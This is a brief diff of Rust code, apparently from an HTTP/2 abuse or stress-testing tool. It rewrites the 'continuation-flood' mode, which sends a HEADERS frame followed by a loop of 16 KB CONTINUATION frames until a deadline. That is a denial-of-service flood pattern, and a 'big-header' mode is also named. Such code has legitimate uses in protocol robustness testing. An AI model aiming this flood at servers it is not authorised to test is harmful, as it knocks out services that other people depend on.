@@ -217,15 +217,13 @@ async fn abuse_frames(w: &mut (impl AsyncWrite + Unpin), mode: &str, authority: 
                 stream += 2;
             }
         }
-        "continuation-flood" => {
-            if write(frame(HEADERS, 0, 1, &connect_block(authority))).await {
-                let junk = vec![0x40u8; 16 * 1024];
-                while Instant::now() < deadline {
-                    if !write(frame(CONTINUATION, 0, 1, &junk)).await {
-                        break;
-                    }
-                    sent += 1;
+        "continuation-flood" if write(frame(HEADERS, 0, 1, &connect_block(authority))).await => {
+            let junk = vec![0x40u8; 16 * 1024];
+            while Instant::now() < deadline {
+                if !write(frame(CONTINUATION, 0, 1, &junk)).await {
+                    break;
                 }
+                sent += 1;
             }
         }
         "big-header" => {
